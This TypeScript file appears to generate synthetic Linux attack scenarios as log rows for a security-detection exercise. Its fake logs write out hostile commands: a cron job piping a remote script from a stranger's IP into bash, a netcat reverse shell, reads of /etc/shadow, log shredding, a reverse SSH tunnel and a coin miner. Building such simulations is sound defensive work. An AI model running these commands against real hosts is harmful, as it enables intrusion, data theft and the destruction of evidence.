import { keyOf } from "./everyday-machines.ts";
import type { Host } from "./model.ts";
import { auditd, execve, ssh, sudo, syslog } from "./rows-host.ts";
import { flow } from "./rows-net.ts";
import type { AttackKind, Stage } from "./stage.ts";

const area = "linux";
const host = (s: Stage, ...names: string[]): Host => {
  const name = s.w.rng.pick(names);
  return s.w.org.hosts.find((h) => h.name === name) as Host;
};
const linuxAdmin = (s: Stage) => s.w.org.people.find((p) => p.title.startsWith("Linux"))!;

export const linuxAttacks: AttackKind[] = [
  { kind: "shell-guessed", area, difficulty: "obvious", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-bastion01", "lnx-sftp01");
    const net = s.stranger();
    const user = w.rng.pick(["ocr", "backupadm", "svc-scan"]);
    s.at("night", w.org.people[0]!);
    for (let n = w.rng.int(40, 70); n > 0; n--) s.core(ssh.failed(w, s.soon(1, 6), h, w.rng.chance(0.4)
      ? user : w.rng.pick(["root", "admin", "git"]), net.ip,
      w.rng.chance(0.3)));
    s.core(ssh.accepted(w, s.soon(), h, user, net.ip), ssh.opened(w, s.soon(), h, user));
    sudo(w, s.next(), h, user, "/usr/bin/id");
    return {
      subjects: [h.name, user, net.ip],
      summary: "After dozens of failed passwords one was accepted from the same address.",
    };
  } },
  { kind: "root-for-someone-new", area, difficulty: "context", types: ["privilege_escalation", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-db01", "lnx-git01");
    const p = s.who((one) => one.title === "Applications Developer" || one.title === "Network Engineer");
    s.at("evening", p);
    s.core(ssh.accepted(w, s.next(), h, p.sam, p.device.ip), sudo(w, s.next(), h, p.sam, "/usr/bin/su -"),
      sudo(w, s.next(), h, p.sam, "/usr/bin/cat /etc/shadow"));
    return {
      subjects: [p.sam, h.name],
      summary: "An employee who never had root on this host became root and read the password hashes.",
    };
  } },
  { kind: "hidden-user-with-key", area, difficulty: "context", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-web01", "lnx-ocr01");
    const net = s.stranger();
    s.at("night", w.org.people[0]!);
    s.core(syslog(w, s.next(), h, "useradd",
      "new user: name=systemd-netd, UID=0, GID=0, home=/var/lib/.net, shell=/bin/bash, from=none"),
      execve(w, s.soon(), h, ["bash", "-c", "echo ssh-ed25519 AAAAC3Nz >> /var/lib/.net/.ssh/authorized_keys"]));
    s.core(ssh.accepted(w, s.next(4, 20), h, "systemd-netd", net.ip, keyOf(w.rng.hex(8))));
    return {
      subjects: [h.name, "systemd-netd", net.ip],
      summary: "A second root user with the name of a system service appeared and logged on from abroad.",
    };
  } },
  { kind: "cron-fetches-script", area, difficulty: "obvious", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-web01", "lnx-web02", "lnx-ocr01");
    const ip = s.stranger().ip;
    s.at("night", w.org.people[0]!);
    for (let n = 0; n < 5; n++) s.core(syslog(w, s.next(9.8, 10.2), h, "CRON",
      `(www-data) CMD (curl -fsSL http://${ip}/i.sh | bash)`));
    s.core(flow(w, s.soon(), h.office, { from: h.ip, to: ip, port: 80 }));
    return {
      subjects: [h.name, ip],
      summary: "A job of the web user fetches a script from a rented server and runs it every ten minutes.",
    };
  } },
  { kind: "web-server-opens-shell", area, difficulty: "context", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-web01", "lnx-web02");
    s.at("early", w.org.people[0]!);
    for (const [image, parts] of [["/usr/bin/dash", ["sh", "-c", "id;uname -a"]],
      ["/usr/bin/cat", ["cat", "/etc/passwd"]], ["/usr/bin/find",
      ["find", "/srv", "-name", "*.env"]], ["/usr/bin/nc.openbsd",
        ["nc", s.stranger().ip, "4444", "-e", "/bin/sh"]]] as const) {
      s.core(auditd(w, s.soon(5, 40), h, 33, image, "webexec"), execve(w, s.soon(0.1, 0.3), h, [...parts]));
    }
    return {
      subjects: [h.name, "www-data"],
      summary: "The user of the web server started shells and looked for secrets: a hole in the portal was used.",
    };
  } },
  { kind: "client-exchange-emptied", area, difficulty: "context", types: ["account_compromise", "data_exfiltration"],
    run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-sftp01");
    const company = w.rng.pick(w.org.companies.slice(0, 6));
    const user = `c-${company.domain.split("-")[0] ?? ""}`;
    const net = s.stranger(company.place.country);
    s.at("night", w.org.people[0]!);
    s.core(ssh.accepted(w, s.next(), h, user, net.ip));
    for (let n = w.rng.int(18, 30); n > 0; n--) s.core(syslog(w, s.soon(1, 9), h, "internal-sftp",
      `close "/outbox/${w.rng.int(1000, 9999)}.pdf" bytes read `
      + `${w.rng.int(90_000, 90_000_000)} written 0`));
    return {
      subjects: [h.name, user, net.ip],
      summary: "The exchange account of a client fetched everything at night from another country.",
    };
  } },
  { kind: "logging-stopped", area, difficulty: "obvious", types: ["sabotage", "account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-db01", "lnx-bastion01");
    s.at("night", w.org.people[0]!);
    s.core(sudo(w, s.next(), h, "ocr", "/usr/bin/systemctl stop rsyslog auditd"),
      syslog(w, s.soon(), h, "systemd", "Stopped Security Auditing Service."),
      syslog(w, s.soon(), h, "auditd", "The audit daemon is exiting."),
        sudo(w, s.next(), h, "ocr", "/usr/bin/shred -u /var/log/auth.log /root/.bash_history"));
    return {
      subjects: [h.name, "ocr"],
      summary: "A technical user stopped the audit and shredded logs.",
    };
  } },
  { kind: "deployment-key-goes-astray", area, difficulty: "hard", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const from = host(s, "lnx-web01", "lnx-web02");
    const to = host(s, "lnx-db01", "lnx-relay01");
    s.at("early", w.org.people[0]!);
    s.core(ssh.accepted(w, s.next(), to, "deploy", from.ip, keyOf("deploy")), ssh.opened(w, s.soon(), to, "deploy"));
    s.core(execve(w, s.next(), to, ["ls", "-la", "/srv/backup"]));
    return {
      subjects: [from.name, to.name, "deploy"],
      summary: "The deployment key, which only ever goes from the source server to the web servers, came from a web "
        + "server to another host.",
    };
  } },
  { kind: "database-dumped-by-other", area, difficulty: "context", types: ["data_exfiltration", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-db01");
    const p = s.who((one) => one.title === "Applications Developer" || one.title === "Cloud Engineer"
      || one.title === "Network Engineer");
    s.at("evening", p);
    s.core(ssh.accepted(w, s.next(), h, p.sam, p.device.ip), sudo(w, s.next(), h, p.sam,
      "/usr/bin/pg_dump -Fc clientdb -f /home/x.dump", "postgres"));
    s.core(flow(w, s.next(20, 40), h.office, { from: h.ip, to: s.stranger().ip, port: 443, out: w.rng.int(2e9, 9e9),
      seconds: 1400 }));
    return {
      subjects: [p.sam, h.name],
      summary: "The client database was dumped by somebody who is not its administrator and left the house.",
    };
  } },
  { kind: "preloaded-library", area, difficulty: "hard", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-mon01", "lnx-relay01");
    s.at("work", w.org.people[0]!);
    s.core(execve(w, s.next(), h, ["tee", "/etc/ld.so.preload"]),
      auditd(w, s.soon(), h, 0, "/usr/bin/chattr", "etcwrite", "root"));
    s.core(syslog(w, s.next(), h, "sshd", "error: Could not load host key: /etc/ssh/ssh_host_dsa_key", "err"));
    return {
      subjects: [h.name],
      summary: "A library was planted that is loaded by every program, and made unchangeable.",
    };
  } },
  { kind: "kernel-module-loaded", area, difficulty: "context", types: ["account_compromise", "sabotage"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-git01", "lnx-web02");
    s.at("night", w.org.people[0]!);
    s.core(execve(w, s.next(), h, ["insmod", "/dev/shm/.d/netfilter_x.ko"]), syslog(w, s.soon(), h, "kernel",
      "netfilter_x: module verification failed: signature and/or required key missing - tainting kernel", "warning",
        "kern"));
    return {
      subjects: [h.name],
      summary: "An unsigned module from a hidden folder was loaded into the kernel.",
    };
  } },
  { kind: "tunnel-to-outside", area, difficulty: "hard", types: ["policy_violation", "account_compromise",
    "data_exfiltration"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-ocr01", "lnx-mon01");
    const ip = s.stranger().ip;
    s.at("evening", linuxAdmin(s));
    s.core(execve(w, s.next(), h, ["ssh", "-f", "-N", "-R", "2222:127.0.0.1:22", `u@${ip}`, "-p", "443"]));
    s.core(flow(w, s.soon(), h.office, { from: h.ip, to: ip, port: 443, app: "SSH", seconds: 28_000 }));
    return {
      subjects: [h.name, ip],
      summary: "A tunnel from an internal host to a rented server lets somebody back in through the firewall.",
    };
  } },
  { kind: "coin-miner", area, difficulty: "obvious", types: ["account_compromise"], run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-ocr01", "lnx-web02");
    const ip = s.stranger().ip;
    s.at("night", w.org.people[0]!);
    s.core(execve(w, s.next(), h, ["/tmp/.x/xmrig", "-o", `stratum+tcp://${ip}:3333`, "--donate-level", "1"]));
    for (let n = 0; n < 4; n++) s.core(flow(w, s.next(25, 35), h.office,
      { from: h.ip, to: ip, port: 3333, seconds: 1800 }));
    syslog(w, s.next(), h, "kernel", "CPU0: Core temperature above threshold, cpu clock throttled", "crit", "kern");
    return {
      subjects: [h.name, ip],
      summary: "A coin miner runs from a temporary folder.",
    };
  } },
  { kind: "leaver-key-still-works", area, difficulty: "context", types: ["account_compromise", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const h = host(s, "lnx-bastion01");
    const net = s.nearby(linuxAdmin(s));
    s.at("night", linuxAdmin(s));
    s.core(ssh.accepted(w, s.next(), h, "contractor1", net.ip, keyOf(w.rng.hex(8))),
      ssh.opened(w, s.soon(), h, "contractor1"));
    s.core(ssh.accepted(w, s.next(), host(s, "lnx-db01"), "contractor1", h.ip, keyOf(w.rng.hex(8))));
    return {
      subjects: [h.name, "contractor1", net.ip],
      summary: "The key of a contractor, who was needed only for the web server, opened bastion and database at "
        + "night.",
    };
  } },
];
